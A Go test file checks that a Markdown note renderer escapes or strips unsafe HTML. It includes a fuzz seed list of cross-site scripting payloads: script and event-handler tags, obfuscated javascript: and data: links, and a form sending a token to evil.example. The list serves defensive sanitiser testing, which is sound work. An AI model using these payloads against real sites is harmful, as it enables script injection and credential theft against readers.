// Copyright The Assent Authors.
// SPDX-License-Identifier: Apache-2.0

package page

import (
	"regexp"
	"strings"
	"testing"
)

func TestNotesAreShownAsTheyWereMeant(t *testing.T) {
	for source, want := range map[string]string{
		"# Big\n\n#### Small":                                "<h4>Big</h4>\n<h6>Small</h6>\n",
		"a **b** `c` ~~d~~":                                  "<p>a <strong>b</strong> <code>c</code> <del>d</del></p>\n",
		"- a\n- b":                                           "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n",
		"3. a\n4. b":                                         "<ol start=\"3\">\n<li>a</li>\n<li>b</li>\n</ol>\n",
		"[a](https://example.com/x)":                         `<p><a href="https://example.com/x" rel="nofollow noreferrer noopener" target="_blank">a</a></p>` + "\n",
		"see http://example.com/x":                           `<p>see <a href="http://example.com/x" rel="nofollow noreferrer noopener" target="_blank">http://example.com/x</a></p>` + "\n",
		"![a cat](https://evil.example/cat.png)":             "<p>[image: a cat]</p>\n",
		"![out ![in](http://a/b.png)](http://a/c.png)":       "<p>[image: out in]</p>\n",
		"[![badge](http://a/b.png)](https://example.com/ci)": `<p><a href="https://example.com/ci" rel="nofollow noreferrer noopener" target="_blank">[image: badge]</a></p>` + "\n",
		"```html\n<b>\n```":                                  "<pre><code>&lt;b&gt;\n</code></pre>\n",
		"a \u202eb\u200b c":                                  `<p>a \u202eb\u200b c</p>` + "\n",
		"a &#x202e; b":                                       `<p>a \u202e b</p>` + "\n",
		"[a](/relative)":                                     "<p>a</p>\n",
		"[a](//evil.example)":                                "<p>a</p>\n",
	} {
		got, err := note(source)
		if err != nil {
			t.Fatal(err)
		}
		if string(got) != want {
			t.Errorf("%q is\n%q\nand not\n%q", source, got, want)
		}
	}
}

// harmfulNotes try to do something in the browser of whoever reads them, to fetch something, or to look like a part of the page.
var harmfulNotes = []string{
	`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`, `<iframe src="https://evil.example"></iframe>`,
	`[x](javascript:alert(1))`, `[x](JaVaScRiPt:alert(1))`, "[x](java\tscript:alert(1))", `[x](&#106;avascript:alert(1))`, `[x](data:text/html;base64,PHNjcmlwdD4=)`,
	`[x](vbscript:msgbox)`, `<javascript:alert(1)>`, `<https://a" onmouseover="alert(1)>`, `[x](https://a"onmouseover=alert(1))`, `[x]: javascript:alert(1)` + "\n\n[x]",
	`![x](https://evil.example/x.png)`, `![x](data:image/svg+xml,<svg onload=alert(1)>)`, `<style>body{display:none}</style>`, `<link rel=stylesheet href=https://evil.example>`,
	`<form action=https://evil.example><input name=token></form>`, `<a href="https://example.com" onclick="alert(1)">x</a>`, `<base href=https://evil.example>`,
	`<p style="position:fixed">x</p>`, `<div class="button" id="promotion-actions">x</div>`, `<!--<script>-->`, `<![CDATA[<script>]]>`, "a\x00<script>", `<math><mi//xlink:href="data:x,<script>">`,
	`<details open ontoggle=alert(1)>`, `<template><script>1</script></template>`, "`<script>`", `# x {onclick=alert(1)}`, `| a |` + "\n| - |\n| <img src=x> |",
}

var (
	tags     = regexp.MustCompile(`<[^>]*>`)
	harmless = regexp.MustCompile(`^</?(p|br|hr|h4|h5|h6|strong|em|del|code|pre|blockquote|ul|ol|li|table|thead|tbody|tr|th|td)/?>$|` +
		`^<a href="https?://[^"<>\s]*" rel="nofollow noreferrer noopener" target="_blank">$|^</a>$|^<ol start="\d+">$|^<(th|td) align="(left|right|center)">$`) //nolint:misspell // it is HTML's value
)

func TestNotesCanDoNothing(t *testing.T) {
	for _, source := range harmfulNotes {
		for _, text := range []string{source, "- " + source, "> " + source, "a " + source + " b", "**" + source + "**"} {
			got, err := note(text)
			if err != nil {
				t.Fatal(err)
			}
			for _, tag := range tags.FindAllString(string(got), -1) {
				if !harmless.MatchString(tag) {
					t.Errorf("%q has become %q, with %q", text, got, tag)
				}
			}
		}
	}
}

func FuzzNote(f *testing.F) {
	for _, source := range harmfulNotes {
		f.Add(source)
	}
	f.Fuzz(func(t *testing.T, source string) {
		got, err := note(source)
		if err != nil {
			t.Fatal(err)
		}
		left := tags.ReplaceAllStringFunc(string(got), func(tag string) string {
			if !harmless.MatchString(tag) {
				t.Errorf("%q has become %q, with %q", source, got, tag)
			}
			return ""
		})
		if strings.Contains(left, "<") {
			t.Errorf("%q has become %q, with a < that begins no element", source, got)
		}
	})
}
